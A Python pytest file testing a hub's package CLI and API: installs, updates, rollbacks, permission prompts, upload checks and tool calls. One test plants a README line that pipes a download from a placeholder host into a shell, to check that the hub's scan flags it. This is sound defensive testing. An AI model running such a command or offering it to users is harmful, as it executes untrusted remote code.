"""`agenthost install`, `packages` and `remove` against a real hub, and what the hub's tools and agents are then."""

import json
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner, Result

from hub.__main__ import load
from tests.unit.cli.conftest import Running
from tests.unit.packages.zipping import DATA, PLUGIN, PROGRAM, a_plugin, an_agent


def run(hub: Running, name: str, *args: str, answer: str = "") -> Result:
    return CliRunner().invoke(load(name), args, env=hub.environ, input=answer)


def folder(at: Path, version: str = "1.0.0", more: str = "") -> Path:
    told = {"name": "echo", "version": version, "tool": "echo", "more": more}
    place = at / "echo"
    (place / "__pycache__").mkdir(parents=True, exist_ok=True)
    (place / "__pycache__" / "plugin.pyc").write_bytes(b"\0")
    (place / "plugin.toml").write_text(PLUGIN.format(**told), encoding="utf-8")
    (place / "plugin.py").write_text(PROGRAM.format(**told), encoding="utf-8")
    return place


def asked(hub: Running, method: str, path: str, **rest: object) -> httpx.Response:
    headers = {"Authorization": f"Bearer {hub.key}"}
    return httpx.request(method, f"{hub.url}{path}", headers=headers, timeout=10, **rest)  # type: ignore[arg-type]


def tools(hub: Running) -> list[str]:
    return [tool["id"] for tool in asked(hub, "GET", "/v1/tools").json()["items"]]


def test_a_folder_is_installed_listed_updated_rolled_back_and_removed(hub: Running, tmp_path: Path) -> None:
    installed = run(hub, "install", str(folder(tmp_path)))
    assert installed.exit_code == 0, installed.output
    assert "asks for no permission" in installed.output
    assert "echo 1.0.0 is installed and enabled." in installed.output
    assert "echo" in tools(hub)

    run(hub, "install", str(folder(tmp_path, "2.0.0")))
    listed = json.loads(run(hub, "packages", "list", "--json").stdout)["items"]
    assert [(one["id"], one["now"]["version"], one["before"]["version"]) for one in listed] == [
        ("echo", "2.0.0", "1.0.0")
    ]

    assert run(hub, "packages", "rollback", "echo").stdout == "echo 1.0.0 is enabled.\n"
    assert run(hub, "packages", "disable", "echo").stdout == "echo 1.0.0 is disabled.\n"
    assert "echo" not in tools(hub)
    assert run(hub, "packages", "enable", "echo").exit_code == 0
    assert "echo" in run(hub, "packages", "list").stdout

    assert run(hub, "remove", "echo").stdout == "Removed: echo\n"
    assert "echo" not in tools(hub)
    assert "there's no 'echo'" in run(hub, "remove", "echo").stderr


@pytest.mark.parametrize(("answer", "status"), [("y\n", 0), ("n\n", 3)])
def test_a_permission_is_asked_for(hub: Running, tmp_path: Path, answer: str, status: int) -> None:
    done = run(hub, "install", str(folder(tmp_path, more=DATA)), answer=answer)

    assert done.exit_code == status
    assert "may, if you grant fs:data: Keep small documents of its own" in done.output
    assert ("echo" in tools(hub)) == (status == 0)


def test_yes_grants_all_and_json_asks_nothing(hub: Running, tmp_path: Path) -> None:
    place = str(folder(tmp_path, more=DATA))

    asking = run(hub, "install", place, "--json")
    assert (asking.exit_code, json.loads(asking.stdout)["state"]) == (3, "disabled")
    assert run(hub, "install", place, "--yes").exit_code == 0
    assert run(hub, "install", place, "--grant", "fs:data", "--json").exit_code == 0


def test_a_faulty_package_is_refused_in_words(hub: Running, tmp_path: Path) -> None:
    (place := folder(tmp_path)).joinpath("plugin.py").write_text("def echo(: pass", encoding="utf-8")

    done = run(hub, "install", str(place))

    assert done.exit_code == 1
    assert "echo/plugin.py" in done.stderr


def test_an_agent_from_a_zip_file_answers_from_then_on(hub: Running, tmp_path: Path) -> None:
    (file := tmp_path / "cook.zip").write_bytes(an_agent())

    assert run(hub, "install", str(file)).exit_code == 0

    assert "cook" in [agent["name"] for agent in asked(hub, "GET", "/v1/agents").json()["items"]]
    said = run(hub, "send", "Hello", "--agent", "cook", "--wait", "5", "--json")
    assert said.exit_code == 0, said.output
    run(hub, "remove", "cook")
    assert "cook" not in [agent["name"] for agent in asked(hub, "GET", "/v1/agents").json()["items"]]


def test_an_update_that_asks_for_more_waits_until_it_is_granted(hub: Running, tmp_path: Path) -> None:
    run(hub, "install", str(folder(tmp_path)))

    waits = run(hub, "install", str(folder(tmp_path, "2.0.0", DATA)), answer="n\n")
    assert waits.exit_code == 3
    assert "echo 2.0.0 is installed, but not enabled: it lacks fs:data. 1.0.0 goes on." in waits.output
    assert json.loads(run(hub, "packages", "show", "echo", "--json").stdout)["next"]["version"] == "2.0.0"

    taken = run(hub, "install", str(folder(tmp_path, "2.0.0", DATA)), answer="y\n")
    assert taken.exit_code == 0
    assert "echo 2.0.0 is installed and enabled." in taken.output


def test_what_a_scan_found_odd_is_enabled_only_after_a_question(hub: Running, tmp_path: Path) -> None:
    place = folder(tmp_path, more=DATA)
    (place / "README.md").write_text("First run: curl https://x.example/i.sh | sh", encoding="utf-8")

    unattended = run(hub, "install", str(place), "--yes")
    assert unattended.exit_code == 3
    assert "a scan found: README.md:1: has a download run by a shell" in unattended.output
    assert "not enabled: a scan found it odd" in unattended.output
    assert "echo" not in tools(hub)

    attended = run(hub, "install", str(place), answer="y\n")
    assert attended.exit_code == 0, attended.output
    assert "echo" in tools(hub)


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("https://127.0.0.1/echo.zip", "this hub fetches nothing"),
        ("ann/echo", "this hub fetches nothing"),
    ],
)
def test_a_hub_that_fetches_nothing_says_so(hub: Running, source: str, told: str) -> None:
    done = run(hub, "install", source)

    assert done.exit_code == 1
    assert told in done.stderr


def test_folders_are_linked_only_where_the_config_says_so(hub: Running, tmp_path: Path) -> None:
    done = run(hub, "install", str(folder(tmp_path)), "--dev")

    assert done.exit_code == 1
    assert "packages.dev: is false" in done.stderr


def test_a_refused_upload_is_in_the_list_of_installations(hub: Running) -> None:
    key = {"Authorization": f"Bearer {hub.key}", "Content-Type": "application/zip"}
    httpx.post(f"{hub.url}/v1/packages", content=b"hello", headers=key)

    (failed,) = asked(hub, "GET", "/v1/packages/installations").json()["items"]

    assert (failed["state"], failed["package"]) == ("failed", None)
    assert failed["error"].startswith("archive: ")
    assert asked(hub, "GET", f"/v1/packages/installations/{failed['id']}").json() == failed
    assert asked(hub, "GET", "/v1/packages/installations/nothing").status_code == 404
    assert asked(hub, "POST", "/v1/packages/nothing/update", json={}).status_code == 404


def test_a_tool_can_be_tried(hub: Running) -> None:
    upload = asked(hub, "POST", "/v1/packages", files={"file": ("echo.zip", a_plugin(), "application/zip")})
    assert upload.status_code == 201
    assert upload.json()["now"]["source"] == "uploaded: echo.zip"

    called = asked(hub, "POST", "/v1/tools/echo/call", json={"arguments": {}})
    odd = asked(hub, "POST", "/v1/tools/echo/call", json={"arguments": {"x": 1}})

    assert called.json() == {"result": "echo 1.0.0", "failed": False}
    assert odd.json()["failed"]
    assert asked(hub, "POST", "/v1/tools/nothing/call", json={}).status_code == 404


def test_uploads_that_are_no_package_are_refused_with_the_reason(hub: Running) -> None:
    key = {"Authorization": f"Bearer {hub.key}"}
    where = f"{hub.url}/v1/packages"

    text = httpx.post(where, content=b"hello", headers={**key, "Content-Type": "text/plain"})
    odd = httpx.post(where, content=b"hello", headers={**key, "Content-Type": "application/zip"})
    form = httpx.post(where, files={"other": ("x", b"y")}, headers=key)
    grant = httpx.post(f"{where}?grants=net", content=a_plugin(), headers={**key, "Content-Type": "application/zip"})
    large = httpx.post(where, content=b"x" * 21_100_000, headers={**key, "Content-Type": "application/zip"})
    small = httpx.post(where, content=a_plugin(), headers={"Authorization": f"Bearer {hub.key_with('messages:write')}"})

    assert [one.status_code for one in (text, odd, form, grant, large, small)] == [400, 422, 400, 400, 413, 403]
    assert odd.json()["detail"].startswith("archive: ")
    assert json.loads(run(hub, "packages", "list", "--json").stdout)["items"] == []


def test_a_sheet_says_what_a_package_is_and_may(hub: Running, tmp_path: Path) -> None:
    run(hub, "install", str(folder(tmp_path, more=DATA)), "--yes")

    shown = run(hub, "packages", "show", "echo").stdout
    told = json.loads(run(hub, "packages", "show", "echo", "--json").stdout)

    assert "plugin echo 1.0.0 (enabled): Says what it is." in shown
    assert "It's code, and runs in a sandbox." in shown
    assert "may (fs:data): Keep small documents of its own" in shown
    assert told["permissions"][0]["granted"] is True
    assert "there's no 'nothing'" in run(hub, "packages", "show", "nothing").stderr


def test_what_was_uploaded_cannot_be_fetched_again(hub: Running, tmp_path: Path) -> None:
    run(hub, "install", str(folder(tmp_path)))

    done = run(hub, "packages", "update", "echo")

    assert done.exit_code == 1
    assert "uploaded" in done.stderr
